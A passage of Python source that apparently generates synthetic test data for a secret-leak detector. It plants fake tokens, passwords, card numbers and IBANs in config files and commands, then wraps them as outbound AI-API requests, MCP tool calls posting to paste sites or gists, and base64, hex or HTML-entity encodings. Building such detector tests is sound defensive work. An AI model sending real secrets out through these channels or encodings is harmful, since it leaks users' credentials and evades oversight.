def doc_chat(rng, s, c):
    t = rng.choice([
        "hey, here's the %s for the staging box so you can test: %s (please don't share)",
        "Can you check why this keeps returning 401? I'm using %s = %s",
        "FYI rotated the %s, new one is %s",
        "use this one for now -> %s: %s",
    ])
    return t % (c["label"], s), [], "text/plain", "message.txt"


def doc_curl(rng, s, c):
    if c.get("hdr"):
        h = fill(rng, rng.choice(c["hdr"]), s, s)
        t = "curl -sS https://%s/v1/%s \\\n  -H '%s' \\\n  -H 'Accept: application/json'\n" % (c["host"], rng.choice(WORDS), h)
    else:
        t = "curl -sS -X POST https://%s/v1/%s -d '%s=%s'\n" % (c["host"], rng.choice(WORDS), c["key"], s)
    return t, [], "text/plain", "repro.sh"


DOCS = {"env": doc_env, "shell": doc_shell, "yaml": doc_yaml, "toml": doc_toml, "ini": doc_ini, "xml": doc_xml, "props": doc_props,
        "jsoncfg": doc_jsoncfg, "diff": doc_diff, "trace": doc_trace, "log": doc_log, "k8s": doc_k8s, "tf": doc_tf, "docker": doc_docker,
        "compose": doc_compose, "nb": doc_nb, "py": doc_py, "js": doc_js, "sql": doc_sql, "csv": doc_csv, "gha": doc_gha, "chat": doc_chat,
        "curl": doc_curl}


# ---------------------------------------------------------------- transports: wrap a document into an egress body
def _qp(rng, text, needle):
    i = text.find(needle)
    j = i + len(needle) if i >= 0 else -1
    toks = []
    for idx, ch in enumerate(text):
        if ch == "\n":
            toks.append("\n")
            continue
        enc = ch == "=" or ord(ch) > 126 or ord(ch) < 32 or (i <= idx < j and rng.random() < 0.45)
        if enc or (ch == " " and idx + 1 < len(text) and text[idx + 1] == "\n"):
            toks.append("".join("=%02X" % b for b in ch.encode("utf-8")))
        else:
            toks.append(ch)
    out, cur = [], 0
    for t in toks:
        if t == "\n":
            out.append("\n")
            cur = 0
            continue
        if (cur + len(t) > 40 and cur > 0 and rng.random() < 0.5) or cur + len(t) > 75:
            out.append("=\n")
            cur = 0
        out.append(t)
        cur += len(t)
    enc = "".join(out)
    assert quopri.decodestring(enc.encode()) == text.encode(), "qp roundtrip"
    return enc


def _prompt(rng):
    return rng.choice(["Can you review this file and tell me what's wrong?", "Please convert this to the new format.",
                       "Why does my deployment fail with this config?", "Summarize what this does.",
                       "Refactor this for readability, keep the values the same.", "Add comments explaining each setting."])


def tr_raw(rng, doc, ctype, fname, needle):
    return dict(text=doc, content_type=ctype), []


def tr_openai(rng, doc, ctype, fname, needle):
    obj = {"model": rng.choice(["gpt-4o", "gpt-4.1-mini", "o3-mini"]), "messages": [
        {"role": "system", "content": "You are a helpful coding assistant."},
        {"role": "user", "content": "%s\n\n```\n%s```" % (_prompt(rng), doc)}], "temperature": rng.choice([0, 0.2, 0.7])}
    return dict(text=jd(obj, rng), content_type="application/json"), []


def tr_anthropic(rng, doc, ctype, fname, needle):
    tid = "toolu_01" + rs(rng, 22)
    obj = {"model": rng.choice(["claude-sonnet-4-5", "claude-3-5-haiku-latest", "claude-opus-4-1"]), "max_tokens": rng.choice([1024, 4096]),
           "messages": [{"role": "user", "content": [{"type": "text", "text": _prompt(rng)}]},
                        {"role": "assistant", "content": [{"type": "tool_use", "id": tid, "name": "read_file", "input": {"path": fname}}]},
                        {"role": "user", "content": [{"type": "tool_result", "tool_use_id": tid, "content": doc}]}]}
    return dict(text=jd(obj, rng), content_type="application/json"), []


def tr_mcp(rng, doc, ctype, fname, needle):
    tool, args = rng.choice([("write_file", {"path": fname, "content": doc}), ("create_gist", {"filename": fname.split("/")[-1], "content": doc, "public": False}),
                             ("send_message", {"channel": "#" + rng.choice(WORDS), "text": doc}), ("http_post", {"url": "https://paste.%s.dev/api" % rng.choice(ORGS), "body": doc})])
    obj = {"jsonrpc": "2.0", "id": rng.randint(1, 500), "method": "tools/call", "params": {"name": tool, "arguments": args}}
    return dict(text=jd(obj, rng), content_type="application/json"), []


def tr_graphql(rng, doc, ctype, fname, needle):
    obj = {"operationName": "CreateSnippet", "query": "mutation CreateSnippet($input: CreateSnippetInput!) { createSnippet(input: $input) { snippet { id webUrl } errors } }",
           "variables": {"input": {"title": fname, "visibilityLevel": "private", "files": [{"filePath": fname, "content": doc}]}}}
    return dict(text=jd(obj, rng), content_type="application/json"), []


def tr_gist(rng, doc, ctype, fname, needle):
    obj = {"description": "%s notes" % rng.choice(WORDS), "public": rng.choice([True, False]), "files": {fname.split("/")[-1]: {"content": doc}}}
    return dict(text=jd(obj, rng), content_type="application/json"), []


def tr_slack(rng, doc, ctype, fname, needle):
    obj = {"channel": "C0" + rs(rng, 9, UP + DI), "text": "```%s```" % doc, "unfurl_links": False}
    return dict(text=jd(obj, rng), content_type="application/json; charset=utf-8"), []


def tr_multipart(rng, doc, ctype, fname, needle):
    bnd = "----WebKitFormBoundary" + rs(rng, 16)
    t = ("--%s\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n%s\r\n--%s\r\nContent-Disposition: form-data; name=\"file\"; filename=\"%s\"\r\n"
         "Content-Type: %s\r\n\r\n%s\r\n--%s--\r\n") % (bnd, rng.choice(WORDS), bnd, fname.split("/")[-1], ctype, doc, bnd)
    return dict(text=t, content_type="multipart/form-data; boundary=" + bnd), []


def tr_form(rng, doc, ctype, fname, needle):
    t = urllib.parse.urlencode([("title", fname), ("syntax", rng.choice(["text", "yaml", "bash"])), ("content", doc), ("expire", "1d")])
    return dict(text=t, content_type="application/x-www-form-urlencoded"), ["form"]


def tr_b64field(rng, doc, ctype, fname, needle):
    obj = {"message": "update %s" % fname, "content": b64(doc), "branch": rng.choice(["main", "dev", "fix/config"])}
    return dict(text=jd(obj, rng), content_type="application/json"), ["b64"]


def tr_b64gz(rng, doc, ctype, fname, needle):
    obj = {"name": fname, "encoding": "gzip+base64", "data": b64(gz(doc.encode()))}
    return dict(text=jd(obj, rng), content_type="application/json"), ["b64", "gunzip"]


def tr_hexfield(rng, doc, ctype, fname, needle):
    obj = {"file": fname, "blob_hex": doc.encode().hex()}
    return dict(text=jd(obj, rng), content_type="application/json"), ["hex"]


def tr_jsonesc(rng, doc, ctype, fname, needle):
    ph = "@@" + rs(rng, 12, UP) + "@@"
    obj = {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "%s\n%s" % (_prompt(rng), doc.replace(needle, ph, 1))}]}
    t = json.dumps(obj).replace(ph, "".join("\\u%04x" % ord(ch) for ch in needle))
    return dict(text=t, content_type="application/json"), ["jsonesc"]


def tr_htmlref(rng, doc, ctype, fname, needle):
    ph = "@@" + rs(rng, 12, UP) + "@@"
    body = html.escape(doc.replace(needle, ph, 1), quote=False).replace(ph, "".join(("&#%d;" % ord(ch)) if rng.random() < 0.5 else ("&#x%x;" % ord(ch)) for ch in needle))
    t = "<!doctype html>\n<html><head><meta charset=\"utf-8\"><title>%s</title></head>\n<body><h1>%s</h1>\n<pre>%s</pre>\n</body></html>\n" % (fname, rng.choice(WORDS), body)
    return dict(text=t, content_type="text/html"), ["html"]


def tr_qp(rng, doc, ctype, fname, needle):
    t = ("From: %s@%s.example\nTo: %s@%s.example\nSubject: %s\nMIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n"
         "Content-Transfer-Encoding: quoted-printable\n\n%s") % (rng.choice(PEOPLE), rng.choice(ORGS), rng.choice(PEOPLE), rng.choice(ORGS), fname, _qp(rng, doc, needle))
    return dict(text=t, content_type="message/rfc822"), ["qp"]


def tr_gzipce(rng, doc, ctype, fname, needle):
    inner, layers = rng.choice([tr_openai, tr_mcp, tr_raw, tr_gist])(rng, doc, ctype, fname, needle)
    enc = rng.choice(["gzip", "deflate"])
    raw = inner["text"].encode()
    data = gz(raw) if enc == "gzip" else zlib.compress(raw, 9)
    return dict(base64=b64(data), content_type=inner["content_type"], content_encoding=enc), layers


TRANSPORTS = {"raw": tr_raw, "openai": tr_openai, "anthropic": tr_anthropic, "mcp": tr_mcp, "graphql": tr_graphql, "gist": tr_gist,
              "slack": tr_slack, "multipart": tr_multipart, "form": tr_form, "b64field": tr_b64field, "b64gz": tr_b64gz, "hexfield": tr_hexfield,
              "jsonesc": tr_jsonesc, "htmlref": tr_htmlref, "qp": tr_qp, "gzipce": tr_gzipce}
SIMPLE_TR = ["raw", "openai", "anthropic", "mcp", "gist", "multipart", "gzipce", "b64field", "form"]


# ---------------------------------------------------------------- special documents
def _exp(rng):
    return rng.randint(1, 12), rng.randint(2026, 2031)


def doc_card_json(rng, s, c):
    m, y = _exp(rng)
    obj = {"amount": rng.randint(100, 99999), "currency": rng.choice(["usd", "eur", "gbp"]), "payment_method": {"type": "card", "card": {
        "number": s, "exp_month": m, "exp_year": y, "cvc": rs(rng, 3, DI)}}, "description": "order %d" % rng.randint(1000, 99999)}
    return jd(obj, rng), [], "application/json", "charge.json"


def doc_card_form(rng, s, c):
    m, y = _exp(rng)
    t = urllib.parse.urlencode([("amount", str(rng.randint(100, 9999))), ("card[number]", s), ("card[exp_month]", str(m)), ("card[exp_year]", str(y)), ("card[cvc]", rs(rng, 3, DI))])
    return t, ["form"], "application/x-www-form-urlencoded", "form"


def doc_card_csv(rng, s, c):
    rows = ["customer,card_number,exp,zip"]
    rows.append("%s %s,%s,%02d/%02d,%s" % (rng.choice(PEOPLE).title(), rng.choice(["Ng", "Smith", "Okafor", "Rossi"]), s, rng.randint(1, 12), rng.randint(26, 31), rs(rng, 5, DI)))
    rng.shuffle(rows[1:])
    return "\n".join(rows) + "\n", [], "text/csv", "customers.csv"


def doc_card_chat(rng, s, c):
    t = rng.choice(["Please book the hotel in %s with my card %s, exp %02d/%02d, cvv %s" % (rng.choice(CITIES), s, rng.randint(1, 12), rng.randint(26, 31), rs(rng, 3, DI)),
                    "card number: %s\nexpiry: %02d/%02d\nname on card: %s" % (s, rng.randint(1, 12), rng.randint(26, 31), rng.choice(PEOPLE).upper())])
    return t, [], "text/plain", "note.txt"


def doc_card_sql(rng, s, c):
    return "INSERT INTO payments (user_id, pan, exp) VALUES (%d, '%s', '%02d/%02d');\n" % (rng.randint(1, 9999), s, rng.randint(1, 12), rng.randint(26, 31)), [], "application/sql", "dump.sql"


def doc_card_log(rng, s, c):
    return "2024-%02d-%02d %02d:%02d:%02d WARN checkout: charge declined card=%s amount=%d.%02d\n" % (rng.randint(1, 12), rng.randint(1, 28), rng.randint(0, 23), rng.randint(0, 59), rng.randint(0, 59), s, rng.randint(1, 900), rng.randint(0, 99)), [], "text/plain", "payments.log"


def doc_iban_json(rng, s, c):
    obj = {"beneficiary": {"name": "%s %s" % (rng.choice(PEOPLE).title(), rng.choice(["GmbH", "SA", "Ltd", "BV"])), "iban": s, "bic": rs(rng, 4, UP) + rng.choice(["DE", "FR", "GB", "NL"]) + rs(rng, 2, UP + DI)},
           "amount": {"value": "%d.%02d" % (rng.randint(10, 9000), rng.randint(0, 99)), "currency": "EUR"}, "reference": "INV-%d" % rng.randint(1000, 9999)}
    return jd(obj, rng), [], "application/json", "transfer.json"


def doc_iban_xml(rng, s, c):
    t = "<CdtTrfTxInf>\n  <Amt><InstdAmt Ccy=\"EUR\">%d.00</InstdAmt></Amt>\n  <Cdtr><Nm>%s</Nm></Cdtr>\n  <CdtrAcct><Id><IBAN>%s</IBAN></Id></CdtrAcct>\n</CdtTrfTxInf>\n" % (rng.randint(10, 9999), rng.choice(PEOPLE).title(), s)
    return t, [], "application/xml", "pain001.xml"


def doc_iban_csv(rng, s, c):
    return "employee,iban,net_salary\n%s,%s,%d.%02d\n" % (rng.choice(PEOPLE).title(), s, rng.randint(1500, 9000), rng.randint(0, 99)), [], "text/csv", "payroll.csv"


def doc_iban_chat(rng, s, c):
    return rng.choice(["Hi! You can wire the deposit to IBAN %s (account holder %s).", "Bankverbindung: IBAN %s, Kontoinhaber %s", "Merci de virer sur le compte IBAN %s au nom de %s."]) % (s, rng.choice(PEOPLE).title()), [], "text/plain", "msg.txt"


def doc_iban_form(rng, s, c):
    return urllib.parse.urlencode([("holder", rng.choice(PEOPLE).title()), ("iban", s), ("mandate", "SEPA-%d" % rng.randint(1000, 9999))]), ["form"], "application/x-www-form-urlencoded", "form"


def doc_addr_json(rng, s, c):
    obj = {"asset": c["asset"], "amount": "%d.%04d" % (rng.randint(0, 20), rng.randint(0, 9999)), "destination_address": s, "network": c["net"], "memo": rng.choice(WORDS)}
    return jd(obj, rng), [], "application/json", "withdraw.json"


def doc_addr_chat(rng, s, c):
    return rng.choice(["send the %s to %s when you can", "my %s wallet: %s", "Payout for %s goes to %s"]) % (c["asset"], s), [], "text/plain", "msg.txt"


def doc_addr_yaml(rng, s, c):
    return "payouts:\n  asset: %s\n  network: %s\n  address: \"%s\"\n  threshold: %d\n" % (c["asset"], c["net"], s, rng.randint(1, 100)), [], "application/yaml", "payout.yaml"


def doc_addr_csv(rng, s, c):
    return "user,asset,address\n%s,%s,%s\n" % (rng.choice(PEOPLE), c["asset"], s), [], "text/csv", "wallets.csv"


def doc_addr_log(rng, s, c):
    return "2024-%02d-%02dT10:%02d:00Z INFO withdrawal queued asset=%s to=%s amount=%d\n" % (rng.randint(1, 12), rng.randint(1, 28), rng.randint(0, 59), c["asset"], s, rng.randint(1, 500)), [], "text/plain", "wallet.log"


def doc_login_json(rng, s, c):
    obj = {"username": rng.choice(PEOPLE) + "@" + rng.choice(ORGS) + ".com", c["key"]: s, "remember_me": rng.choice([True, False])}
    return jd(obj, rng), [], "application/json", "login.json"


def doc_login_form(rng, s, c):
    return urllib.parse.urlencode([("username", rng.choice(PEOPLE)), (c["key"], s), ("submit", "Sign in")]), ["form"], "application/x-www-form-urlencoded", "login"


def doc_pw_cli(rng, s, c):
    t = rng.choice(["mysql -h db.%s.internal -u admin -p'%s' -e 'SHOW DATABASES;'\n", "PGPASSWORD='%s' psql -h 10.0.3.7 -U postgres -d app -c '\\dt'\n",
                    "sshpass -p '%s' ssh deploy@bastion.%s.internal uptime\n", "docker login registry.%s.example -u ci --password '%s'\n"])
    org = rng.choice(ORGS)
    t = t % ((org, s) if t.startswith("mysql") else (s,) if t.startswith("PG") else (s, org) if t.startswith("sshpass") else (org, s))
    return t, [], "text/plain", "cmd.sh"


def doc_pw_sql(rng, s, c):
    return "CREATE USER '%s'@'%%' IDENTIFIED BY '%s';\nGRANT ALL PRIVILEGES ON app.* TO '%s'@'%%';\n" % (rng.choice(PEOPLE), s, rng.choice(PEOPLE)), [], "application/sql", "grant.sql"


def doc_basic_curl(rng, s, c):
    return "curl -u '%s' https://%s/api/v1/%s\n" % (s, c["host"], rng.choice(WORDS)), [], "text/plain", "repro.sh"


def doc_basic_hdrlog(rng, s, c):
    return "> GET /api/v1/%s HTTP/1.1\n> Host: %s\n> Authorization: Basic %s\n> User-Agent: curl/8.5.0\n" % (rng.choice(WORDS), c["host"], b64(s)), ["b64"], "text/plain", "verbose.txt"


def doc_basic_har(rng, s, c):
    obj = {"log": {"entries": [{"request": {"method": "GET", "url": "https://%s/api/%s" % (c["host"], rng.choice(WORDS)),
                                            "headers": [{"name": "Accept", "value": "*/*"}, {"name": "Authorization", "value": "Basic " + b64(s)}]}}]}}
    return jd(obj, rng), ["b64"], "application/json", "session.har"


def doc_bearer_json(rng, s, c):
    obj = {"mcpServers": {rng.choice(WORDS): {"url": "https://%s/mcp" % c["host"], "headers": {"Authorization": "Bearer " + s}}}}
    return jd(obj, rng, 2), [], "application/json", "mcp.json"


def doc_bearer_fetch(rng, s, c):
    return "const res = await fetch('https://%s/v2/%s', {\n  headers: { Authorization: 'Bearer %s' },\n});\n" % (c["host"], rng.choice(WORDS), s), [], "text/javascript", "fetch.js"


def doc_oauthform(rng, s, c):
    return urllib.parse.urlencode([("grant_type", "client_credentials"), ("client_id", c.get("client_id", uuid4(rng))), ("client_secret", s), ("scope", c.get("scope", "https://graph.microsoft.com/.default"))]), ["form"], "application/x-www-form-urlencoded", "token"


def doc_awscreds(rng, s, c):
    kid = "AKIA" + rs(rng, 16, UP + "234567")
    if c["var"] == "AWS_SECRET_ACCESS_KEY":
        t = "[default]\naws_access_key_id = %s\naws_secret_access_key = %s\nregion = us-east-1\n" % (kid, s)
    else:
        t = "[profile %s]\naws_access_key_id = %s\naws_secret_access_key = %s\naws_session_token = %s\n" % (rng.choice(WORDS), "ASIA" + rs(rng, 16, UP + "234567"), rs(rng, 40, B64C), s)
    return t, [], "text/plain", ".aws/credentials"


def doc_pypirc(rng, s, c):
    return "[distutils]\nindex-servers = pypi\n\n[pypi]\nusername = __token__\npassword = %s\n" % s, [], "text/plain", ".pypirc"


def doc_npmrc(rng, s, c):
    return "registry=https://registry.npmjs.org/\n//registry.npmjs.org/:_authToken=%s\nalways-auth=true\n" % s, [], "text/plain", ".npmrc"


def doc_dockercfg(rng, s, c):
    obj = {"auths": {"https://index.docker.io/v1/": {"auth": b64("ci-bot:" + s)}}}
    return jd(obj, rng), ["b64"], "application/json", ".docker/config.json"


def doc_gitcfg(rng, s, c):
    return "[remote \"origin\"]\n\turl = %s\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[branch \"main\"]\n\tremote = origin\n" % s, [], "text/plain", ".git/config"


def doc_pipconf(rng, s, c):
    return "[global]\nindex-url = %s\ntimeout = 60\n" % s, [], "text/plain", "pip.conf"


SPECIAL_DOCS = {k: v for k, v in globals().items() if k.startswith("doc_") and k[4:] not in DOCS}
SPECIAL_DOCS = {k[4:]: v for k, v in SPECIAL_DOCS.items()}
ALLDOCS = dict(DOCS)
ALLDOCS.update(SPECIAL_DOCS)


# ---------------------------------------------------------------- needle generators
def g_choice(*fs):
    return lambda rng: rng.choice(fs)(rng)


def g_const_or(p, consts, f):
    return lambda rng: rng.choice(consts) if rng.random() < p else f(rng)


def g_password(rng):
    if rng.random() < 0.2:
        w = ["Falcon", "river", "Copper", "maple", "Orbit", "tundra", "Quartz", "ember", "Velvet", "harbor"]
        return "%s-%s-%s%d%s" % (rng.choice(w), rng.choice(w), rng.choice(w), rng.randint(10, 99), rng.choice("!@^*"))
    while True:
        n = rng.randint(12, 22)
        v = list(rs(rng, n, ALNUM))
        for _ in range(rng.randint(1, 3)):
            v[rng.randrange(n)] = rng.choice("!@^*-_+.~")
        v = "".join(v)
        if any(ch in UP for ch in v) and any(ch in LO for ch in v) and any(ch in DI for ch in v):
            return v


def g_generic(rng):
    k = rng.randrange(7)
    if k == 0:
        return rs(rng, 32)
    if k == 1:
        return rhex(rng, rng.choice([32, 40, 64]))
    if k == 2:
        return b64(rbytes(rng, rng.choice([24, 30, 33])))
    if k == 3:
        return rs(rng, rng.choice([40, 48]), B64U)
    if k == 4:
        return uuid4(rng)
    if k == 5:
        return "%s_%s" % (rng.choice(["live", "prod", "srv", "key"]), rs(rng, 36))
    return rs(rng, 24, UP + DI)


def g_bearer(rng):
    k = rng.randrange(4)
    if k == 0:
        return rs(rng, rng.randint(40, 64), ALNUM + "-._~")
    if k == 1:
        return rhex(rng, 64)
    if k == 2:
        return b64u(rbytes(rng, 32))
    return "%s.%s" % (rs(rng, 12, DI), rs(rng, 48))


def g_jwt(rng):
    hdr = {"alg": rng.choice(["HS256", "RS256", "ES256"]), "typ": "JWT"}
    if rng.random() < 0.4:
        hdr["kid"] = rs(rng, 16)
    now = rng.randint(1700000000, 1760000000)
    pl = rng.choice([{"sub": uuid4(rng), "iat": now, "exp": now + 3600, "scope": "read write"},
                     {"iss": "supabase", "ref": rs(rng, 20, LO), "role": "service_role", "iat": now, "exp": now + 315360000},
                     {"sub": str(rng.randint(10 ** 6, 10 ** 9)), "name": rng.choice(PEOPLE).title(), "admin": True, "iat": now},
                     {"aud": "https://api.%s.com" % rng.choice(ORGS), "azp": rs(rng, 32), "email": "%s@%s.com" % (rng.choice(PEOPLE), rng.choice(ORGS)), "exp": now + 900}])
    sig = b64u(rbytes(rng, {"HS256": 32, "RS256": 256, "ES256": 64}[hdr["alg"]]))
    return "%s.%s.%s" % (b64u(json.dumps(hdr, separators=(",", ":"))), b64u(json.dumps(pl, separators=(",", ":"))), sig)


def g_basic(rng):
    u = rng.choice(PEOPLE + ["admin", "deploy", "ci-bot", "svc_reporting", "api"])
    return "%s:%s" % (u, g_password(rng) if rng.random() < 0.7 else rs(rng, 32))


def g_dburl(rng):
    u = rng.choice(["app", "admin", "postgres", "svc_api", "readonly", "root"])
    p = urllib.parse.quote(g_password(rng), safe="")
    org = rng.choice(ORGS)
    k = rng.randrange(9)
    if k == 0:
        return "postgres://%s:%s@db.%s.internal:5432/%s" % (u, p, org, rng.choice(WORDS))
    if k == 1:
        return "postgresql://%s:%s@%s.cluster-%s.eu-west-1.rds.amazonaws.com:5432/app?sslmode=require" % (u, p, org, rs(rng, 12, LO + DI))
    if k == 2:
        return "mongodb+srv://%s:%s@cluster0.%s.mongodb.net/%s?retryWrites=true&w=majority" % (u, p, rs(rng, 5, LO + DI), rng.choice(WORDS))
    if k == 3:
        return "mysql://%s:%s@10.%d.%d.%d:3306/%s" % (u, p, rng.randint(0, 255), rng.randint(0, 255), rng.randint(1, 254), rng.choice(WORDS))
    if k == 4:
        return "redis://default:%s@redis-%d.c%d.us-east-1-2.ec2.cloud.redislabs.com:%d" % (p, rng.randint(10000, 19999), rng.randint(100, 999), rng.randint(10000, 19999))
    if k == 5:
        return "rediss://default:%s@%s-%s-%d.upstash.io:6379" % (rs(rng, 34), rng.choice(["eu1", "us1"]), rng.choice(WORDS), rng.randint(10000, 99999))
    if k == 6:
        return "amqp://%s:%s@rabbit.%s.internal:5672/%s" % (u, p, org, rng.choice(WORDS))
    if k == 7:
        return "jdbc:postgresql://pg.%s.internal:5432/app?user=%s&password=%s" % (org, u, p)
    return "Server=tcp:%s-sql.database.windows.net,1433;Initial Catalog=%s;User ID=%s;Password=%s;Encrypt=True;" % (org, rng.choice(WORDS), u, g_password(rng))


def g_userinfo(rng):
    u = rng.choice(PEOPLE + ["deploy", "jenkins", "x-access-token", "oauth2", "build"])
    p = urllib.parse.quote(g_password(rng), safe="") if rng.random() < 0.7 else rs(rng, 40)
    return rng.choice(["https://%s:%s@git.%s.example/%s/%s.git", "https://%s:%s@nexus.%s.example/repository/pypi/simple", "ftp://%s:%s@ftp.%s.example/%s/%s.tar.gz",
                       "https://%s:%s@jenkins.%s.example/job/%s/build?token=%s"]) .replace("%s", "{}", 99).format(u, p, rng.choice(ORGS), rng.choice(WORDS), rng.choice(WORDS))


def g_card(rng):
    if rng.random() < 0.25:
        d = rng.choice(["4111111111111111", "4242424242424242", "5555555555554444", "378282246310005", "6011111111111117", "3530111333300000", "5105105105105100", "4012888888881881", "371449635398431", "30569309025904"])
    else:
        pre, ln = rng.choice([("4", 16), ("4", 16), ("51", 16), ("55", 16), ("2221", 16), ("34", 15), ("37", 15), ("6011", 16), ("65", 16), ("3528", 16), ("36", 14), ("4", 19)])
        d = luhn_complete(pre, ln, rng)
    fmt = rng.randrange(4)
    if fmt == 0 and len(d) == 16:
        return " ".join(d[i:i + 4] for i in range(0, 16, 4))
    if fmt == 1 and len(d) == 16:
        return "-".join(d[i:i + 4] for i in range(0, 16, 4))
    if fmt == 2 and len(d) == 15:
        return "%s %s %s" % (d[:4], d[4:10], d[10:])
    return d


def g_iban(rng):
    if rng.random() < 0.25:
        v = rng.choice(["DE89370400440532013000", "GB29NWBK60161331926819", "GB82WEST12345698765432", "FR1420041010050500013M02606",
                        "NL91ABNA0417164300", "CH9300762011623852957", "BE68539007547034", "ES9121000418450200051332"])
    else:
        v = iban_make(rng, rng.choice(["DE", "GB", "FR", "ES", "IT", "NL", "BE", "CH", "AT", "PL", "SE", "NO", "DK", "FI", "IE", "PT", "LU", "CZ", "RO", "SA", "AE", "TR", "BR"]))
    if rng.random() < 0.4:
        v = " ".join(v[i:i + 4] for i in range(0, len(v), 4))
    return v


def g_btc(rng):
    k = rng.randrange(6)
    if k == 0:
        return rng.choice(["1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4", "bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vqzk5jj0"])
    if k == 1:
        return b58check_encode(b"\x00" + rbytes(rng, 20))
    if k == 2:
        return b58check_encode(b"\x05" + rbytes(rng, 20))
    if k == 3:
        return segwit_encode("bc", 0, rbytes(rng, 20))
    if k == 4:
        return segwit_encode("bc", 0, rbytes(rng, 32))
    return segwit_encode("bc", 1, rbytes(rng, 32))


def g_eth(rng):
    if rng.random() < 0.15:
        return rng.choice(["0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed", "0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359", "0xdbF03B407c01E7cD3CBea99509d93f8DDDC8C6FB"])
    h = rbytes(rng, 20).hex()
    return eip55(h) if rng.random() < 0.8 else "0x" + h


def tok(prefix, n, alpha=ALNUM):
    return lambda rng: prefix + rs(rng, n, alpha)


def g_openai(rng):
    k = rng.randrange(3)
    if k == 0:
        return "sk-proj-" + rs(rng, 74, B64U) + "T3BlbkFJ" + rs(rng, 74, B64U)
    if k == 1:
        return "sk-" + rs(rng, 20) + "T3BlbkFJ" + rs(rng, 20)
    return "sk-svcacct-" + rs(rng, 74, B64U) + "T3BlbkFJ" + rs(rng, 74, B64U)


def g_slack_webhook(rng):
    return "https://hooks.slack.com/services/T%s/B%s/%s" % (rs(rng, rng.randint(8, 10), UP + DI), rs(rng, rng.randint(8, 10), UP + DI), rs(rng, 24))


def g_discord_bot(rng):
    uid = str(rng.randint(10 ** 17, 13 * 10 ** 17))
    return "%s.%s.%s" % (b64(uid).rstrip("="), rs(rng, 6, B64U), rs(rng, rng.choice([27, 38]), B64U))


def g_azure_conn(rng):
    acct = rng.choice(ORGS).replace("-", "") + rs(rng, 4, LO + DI)
    if rng.random() < 0.3:
        return "Endpoint=sb://%s.servicebus.windows.net/;SharedAccessKeyName=RootManageSharedAccessKey;SharedAccessKey=%s" % (acct, b64(rbytes(rng, 32)))
    return "DefaultEndpointsProtocol=https;AccountName=%s;AccountKey=%s;EndpointSuffix=core.windows.net" % (acct, b64(rbytes(rng, 64)))


def g_azure_sas(rng):
    return "sv=2022-11-02&ss=bfqt&srt=sco&sp=rwdlacupiytfx&se=2025-%02d-%02dT%02d:00:00Z&st=2024-%02d-01T00:00:00Z&spr=https&sig=%s" % (
        rng.randint(1, 12), rng.randint(1, 28), rng.randint(0, 23), rng.randint(1, 12), urllib.parse.quote(b64(rbytes(rng, 32)), safe=""))


def g_tfc(rng):
    return rs(rng, 14) + ".atlasv1." + rs(rng, 67)


def g_aws_secret(rng):
    return "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY" if rng.random() < 0.1 else rs(rng, 40, B64C)


def g_aws_kid(rng):
    return "AKIAIOSFODNN7EXAMPLE" if rng.random() < 0.12 else rng.choice(["AKIA", "AKIA", "ASIA"]) + rs(rng, 16, UP + "234567")


def g_session(rng):
    return rng.choice(["IQoJb3JpZ2luX2VjE", "FwoGZXIvYXdzE"]) + rs(rng, rng.randint(300, 420), B64C) + "=="


B = "Authorization: Bearer {s}"


def C(name, n, gen, var, key, label, host, hdr=(), url=(), docs=None, modes=None, validator=None, **extra):
    d = dict(name=name, n=n, gen=gen, vars=list(var), keys=list(key), label=label, host=host, hdr=list(hdr), url=list(url), docs=docs, modes=modes, validator=validator)
    d.update(extra)
    return d


GENERIC_DOCS = list(DOCS)
VENDOR_MODES = [("doc", 70), ("header", 14), ("url", 6), ("pct", 4), ("pct2", 3), ("b64url", 3)]

CLASSES = [
    C("github-pat", 9, lambda r: gh_token(r, "ghp_"), ["GITHUB_TOKEN", "GH_TOKEN"], ["token", "github_token"], "GitHub token", "api.github.com",
      ["Authorization: token {s}", B], validator=gh_ok, docs=GENERIC_DOCS + ["gitcfg"], urlneedle=True),
    C("github-fine-grained-pat", 6, lambda r: "github_pat_11" + rs(r, 20, UP + DI) + "_" + rs(r, 59), ["GITHUB_PAT", "GH_TOKEN"], ["github_pat", "token"], "fine-grained PAT", "api.github.com", [B]),
    C("github-oauth-token", 5, lambda r: gh_token(r, "gho_"), ["GITHUB_OAUTH_TOKEN"], ["oauth_token"], "gh oauth token", "api.github.com", ["Authorization: token {s}"], validator=gh_ok),
    C("github-app-token", 6, lambda r: gh_token(r, r.choice(["ghs_", "ghu_", "ghr_"])), ["GITHUB_APP_TOKEN", "GH_INSTALL_TOKEN"], ["installation_token", "refresh_token"], "app token", "api.github.com", [B], validator=gh_ok),
    C("gitlab-pat", 8, lambda r: "glpat-" + rs(r, 20, ALNUM + "-_"), ["GITLAB_TOKEN", "CI_JOB_TOKEN_OVERRIDE"], ["private_token", "gitlab_token"], "GitLab token", "gitlab.com", ["PRIVATE-TOKEN: {s}", B]),
    C("gitlab-ci-token", 5, g_choice(tok("glrt-", 20, ALNUM + "-_"), tok("glptt-", 40, HEXL), tok("GR1348941", 20, ALNUM + "-_")), ["RUNNER_TOKEN", "CI_TRIGGER_TOKEN"], ["runner_token", "trigger_token"], "runner token", "gitlab.com", ["JOB-TOKEN: {s}"]),
    C("slack-bot-token", 7, lambda r: "xoxb-%s-%s-%s" % (rs(r, 12, DI), rs(r, 13, DI), rs(r, 24)), ["SLACK_BOT_TOKEN"], ["bot_token", "slack_token"], "slack bot token", "slack.com", [B]),
    C("slack-user-token", 5, lambda r: "xoxp-%s-%s-%s-%s" % (rs(r, 12, DI), rs(r, 12, DI), rs(r, 13, DI), rhex(r, 32)), ["SLACK_USER_TOKEN"], ["user_token"], "slack user token", "slack.com", [B]),
    C("slack-webhook-url", 6, g_slack_webhook, ["SLACK_WEBHOOK_URL"], ["webhook_url"], "slack webhook", "hooks.slack.com", modes=[("doc", 70), ("selfurl", 30)]),
